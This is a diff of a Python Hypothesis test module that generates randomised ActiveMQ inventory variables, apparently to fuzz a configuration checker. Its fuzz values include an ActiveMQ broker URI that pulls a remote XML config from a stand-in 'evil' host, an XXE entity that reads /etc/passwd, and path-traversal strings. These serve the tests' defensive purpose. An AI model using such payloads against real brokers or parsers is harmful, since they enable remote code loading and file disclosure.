@@ -1,4 +1,4 @@
-"""Inventories as nobody should write them: sound ones with other hosts and other variables."""
+"""Random inventories: valid ones with additional hosts and changed variables."""
 
 from __future__ import annotations
 
@@ -14,7 +14,7 @@ from tests.unit.element_inputs import VARIABLES
 
 Hosts = dict[str, dict[str, Any]]
 
-MARKS = [
+HOSTILE_PARTS = [
     "vm://evil?brokerConfig=xbean:http://evil/x.xml",
     "xbean:http://evil",
     "broker:(tcp://x)",
@@ -51,23 +51,25 @@ MARKS = [
 ]
 texts = st.one_of(
     st.text(max_size=12),
-    st.sampled_from(MARKS),
-    st.builds("{}{}{}".format, st.text(string.ascii_letters, max_size=4), st.sampled_from(MARKS), st.text(max_size=3)),
+    st.sampled_from(HOSTILE_PARTS),
+    st.builds(
+        "{}{}{}".format, st.text(string.ascii_letters, max_size=4), st.sampled_from(HOSTILE_PARTS), st.text(max_size=3)
+    ),
 )
-anything = st.recursive(
+any_value = st.recursive(
     st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), texts, st.dates()),
     lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(texts, inner, max_size=3)),
     max_leaves=5,
 )
 
 
-def mostly(*likely: Any) -> st.SearchStrategy[Any]:
-    """One of these, and now and then text with a mark in it."""
-    return st.integers(0, 7).flatmap(lambda chance: st.sampled_from(likely) if chance else texts)
+def choice_or_text(*choices: Any) -> st.SearchStrategy[Any]:
+    """Return a strategy for these values, and occasionally for a text with a hostile part."""
+    return st.integers(0, 7).flatmap(lambda chance: st.sampled_from(choices) if chance else texts)
 
 
-def objects(optional: Mapping[str, st.SearchStrategy[Any]] | None = None, **needed: Any) -> st.SearchStrategy[Any]:
-    return st.lists(st.fixed_dictionaries(needed, optional=dict(optional or {})), max_size=3)
+def objects(optional: Mapping[str, st.SearchStrategy[Any]] | None = None, **required: Any) -> st.SearchStrategy[Any]:
+    return st.lists(st.fixed_dictionaries(required, optional=dict(optional or {})), max_size=3)
 
 
 UNITS = ("a", "b", "a-mq01", "a-mq02", "b-mq01")
@@ -87,39 +89,43 @@ SCHEMES = (
     "http",
 )
 RELEASES = ("5.5.1", "5.6.0", "5.7.0", "5.8.0", "5.11.4", "5.15.16", "5.18.3", "6.2.7", "6.3.1")
-NAMES = mostly("one", "two", "openwire", "A.b-c")
-LISTS = st.lists(mostly("orders.>", "queue://a", "topic://b.*", "events/#"), max_size=2)
-PATHS = mostly("/srv/x", "/srv/x/", "/opt/../etc", "relative")
+NAMES = choice_or_text("one", "two", "openwire", "A.b-c")
+LISTS = st.lists(choice_or_text("orders.>", "queue://a", "topic://b.*", "events/#"), max_size=2)
+PATHS = choice_or_text("/srv/x", "/srv/x/", "/opt/../etc", "relative")
 PLAUSIBLE: dict[str, st.SearchStrategy[Any]] = {
-    "release": mostly(*RELEASES),
-    "ha": mostly("pure", "shared-file", "shared-jdbc", "none"),
-    "address": mostly("10.0.0.1", "::1", "[::1]", "mq.example.com", "fe80::1%eth0", "bad_name", "x.1"),
-    "bind": mostly("0.0.0.0", "::", "127.0.0.1", "localhost"),
-    "console_bind": mostly("127.0.0.1", "::1"),
+    "release": choice_or_text(*RELEASES),
+    "ha": choice_or_text("pure", "shared-file", "shared-jdbc", "none"),
+    "address": choice_or_text("10.0.0.1", "::1", "[::1]", "mq.example.com", "fe80::1%eth0", "bad_name", "x.1"),
+    "bind": choice_or_text("0.0.0.0", "::", "127.0.0.1", "localhost"),
+    "console_bind": choice_or_text("127.0.0.1", "::1"),
     "broker_name": NAMES,
     "store_directory": PATHS,
     "base": PATHS,
     "home": PATHS,
     "java_home": PATHS,
-    "discovery": mostly("masterslave", "failover", "static", "multicast"),
-    "topology": mostly("mesh", "hub", "ring", "chain", "none"),
+    "discovery": choice_or_text("masterslave", "failover", "static", "multicast"),
+    "topology": choice_or_text("mesh", "hub", "ring", "chain", "none"),
     "environment": NAMES,
-    "multicast_interface": mostly("eth0", "lo"),
+    "multicast_interface": choice_or_text("eth0", "lo"),
     "port_offset": st.integers(-1, 70000),
     "console_port": st.integers(0, 70000),
     "console": st.booleans(),
-    "pair_links": mostly("none", "static"),
-    "network_username": mostly("net", "me@x"),
+    "pair_links": choice_or_text("none", "static"),
+    "network_username": choice_or_text("net", "me@x"),
     "network_password": texts,
     "network_ttl": st.integers(0, 101),
-    "memory_limit": mostly("10 mb", "1gb"),
-    "heap": mostly("512m", "4g", "1k"),
-    "instance": mostly("activemq", "two"),
-    "java_options": st.lists(mostly("-Da=b", "-XX:+UseG1GC", "-Dx=$HOME"), max_size=2),
+    "memory_limit": choice_or_text("10 mb", "1gb"),
+    "heap": choice_or_text("512m", "4g", "1k"),
+    "instance": choice_or_text("activemq", "two"),
+    "java_options": st.lists(choice_or_text("-Da=b", "-XX:+UseG1GC", "-Dx=$HOME"), max_size=2),
     "connectors": objects(
-        {"options": st.dictionaries(mostly("maximumConnections", "transport.x"), mostly("1", 2, True), max_size=2)},
+        {
+            "options": st.dictionaries(
+                choice_or_text("maximumConnections", "transport.x"), choice_or_text("1", 2, True), max_size=2
+            )
+        },
         name=NAMES,
-        scheme=mostly(*SCHEMES),
+        scheme=choice_or_text(*SCHEMES),
         port=st.one_of(st.integers(1, 65535), st.integers()),
     ),
     "links": objects(
@@ -130,14 +136,16 @@ PLAUSIBLE: dict[str, st.SearchStrategy[Any]] = {
             "exclude": LISTS,
             "ttl": st.integers(0, 5),
         },
-        **{"from": mostly(*UNITS), "to": mostly(*UNITS)},
+        **{"from": choice_or_text(*UNITS), "to": choice_or_text(*UNITS)},
     ),
     "users": objects({"groups": LISTS}, name=NAMES, password=texts),
-    "acl": objects({"read": LISTS, "write": LISTS}, destination=mostly("a.>", ">"), kind=mostly("queue", "topic")),
+    "acl": objects(
+        {"read": LISTS, "write": LISTS}, destination=choice_or_text("a.>", ">"), kind=choice_or_text("queue", "topic")
+    ),
     "jdbc": st.fixed_dictionaries(
         {
-            "url": mostly("jdbc:postgresql://db/x?a=b&c=d", "jdbc:x;y"),
-            "driver": mostly("org.postgresql.Driver", "a.b²"),
+            "url": choice_or_text("jdbc:postgresql://db/x?a=b&c=d", "jdbc:x;y"),
+            "driver": choice_or_text("org.postgresql.Driver", "a.b²"),
             "username": NAMES,
             "password": texts,
         }
@@ -147,13 +155,13 @@ PLAUSIBLE: dict[str, st.SearchStrategy[Any]] = {
         optional={"client_auth": st.booleans()},
     ),
     "broker_attributes": st.dictionaries(
-        mostly("persistent", "useJmx", "brokerName", "vmConnectorURI", "schedulerSupport", "x²", "xmlns"),
-        mostly("true", "${activemq.data}/x", 1, False),
+        choice_or_text("persistent", "useJmx", "brokerName", "vmConnectorURI", "schedulerSupport", "x²", "xmlns"),
+        choice_or_text("true", "${activemq.data}/x", 1, False),
         max_size=2,
     ),
     "xml_fragments": objects(
-        parent=mostly("broker", "broker/plugins", "beans", "broker/no/such"),
-        xml=mostly(
+        parent=choice_or_text("broker", "broker/plugins", "beans", "broker/no/such"),
+        xml=choice_or_text(
             '<plugins><timeStampingBrokerPlugin ttlCeiling="1"/></plugins>',
             "<bean xmlns='http://www.springframework.org/schema/beans'/>",
             '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
@@ -164,9 +172,11 @@ PLAUSIBLE: dict[str, st.SearchStrategy[Any]] = {
             "<!--x--><x/>",
         ),
     ),
-    "extra_files": objects(path=mostly("conf/x.xml", "../x", "conf/activemq.xml/x", "conf", "a/b/c"), content=texts),
+    "extra_files": objects(
+        path=choice_or_text("conf/x.xml", "../x", "conf/activemq.xml/x", "conf", "a/b/c"), content=texts
+    ),
     **VARIABLES,
-    "waivers": objects(rule=mostly("T013", "T002", "T006", "T008", "T011"), reason=mostly("because")),
+    "waivers": objects(rule=choice_or_text("T013", "T002", "T006", "T008", "T011"), reason=choice_or_text("because")),
 }
 assert PLAUSIBLE.keys() <= {name.removeprefix(PREFIX) for name in KNOWN}
 
@@ -179,8 +189,8 @@ domains = st.one_of(st.just(""), st.just(".example.com"), st.builds(".{}".format
 names = st.builds("{}{}".format, labels, domains)
 variables = st.one_of(
     st.sampled_from(sorted(PLAUSIBLE)).flatmap(lambda name: st.tuples(st.just(PREFIX + name), PLAUSIBLE[name])),
-    st.tuples(st.sampled_from(sorted(KNOWN)), anything),
-    st.tuples(st.builds("activemq_{}".format, texts), anything),
+    st.tuples(st.sampled_from(sorted(KNOWN)), any_value),
+    st.tuples(st.builds("activemq_{}".format, texts), any_value),
 )
 BASE = {
     "activemq_release": "5.18.3",
@@ -189,7 +199,7 @@ BASE = {
 }
 
 
-# Every finding about the topology but the one about names that nobody can dial.
+# All rules about the topology except T013, about host names to which no client can connect.
 WAIVERS = [{"rule": f"T{number:03d}", "reason": "a test"} for number in range(1, 30) if number != 13]
 
 
@@ -199,7 +209,7 @@ def pairs(*units: str, domain: str = "example.com") -> Hosts:
 
 @st.composite
 def inventories(draw: st.DrawFn) -> tuple[Hosts, dict[str, list[str]]]:
-    """A sound inventory that was tampered with: other hosts, other variables."""
+    """Generate a valid inventory with additional hosts and changed variables, and its groups."""
     hosts = pairs("a-mq01", "a-mq02", "b-mq01")
     for name in draw(st.lists(names, max_size=3)):
         hosts[name] = dict(BASE)
@@ -214,12 +224,13 @@ def inventories(draw: st.DrawFn) -> tuple[Hosts, dict[str, list[str]]]:
 
 
 @st.composite
-def mistuned(draw: st.DrawFn) -> Hosts:
-    """A sound fleet of four pairs in which one or two variables are set for all; findings are waived."""
+def inventories_with_changed_variables(draw: st.DrawFn) -> Hosts:
+    """Generate a fleet of two pairs in which one or two variables are set for all hosts; its findings are waived."""
     chosen = draw(
         st.lists(st.sampled_from(sorted(PLAUSIBLE.keys() - {"waivers"})), min_size=1, max_size=2, unique=True)
     )
     variables = {PREFIX + name: draw(PLAUSIBLE[name]) for name in chosen}
     return {
-        host: {**found, **variables, "activemq_waivers": WAIVERS} for host, found in pairs("a-mq01", "b-mq01").items()
+        host: {**host_variables, **variables, "activemq_waivers": WAIVERS}
+        for host, host_variables in pairs("a-mq01", "b-mq01").items()
     }
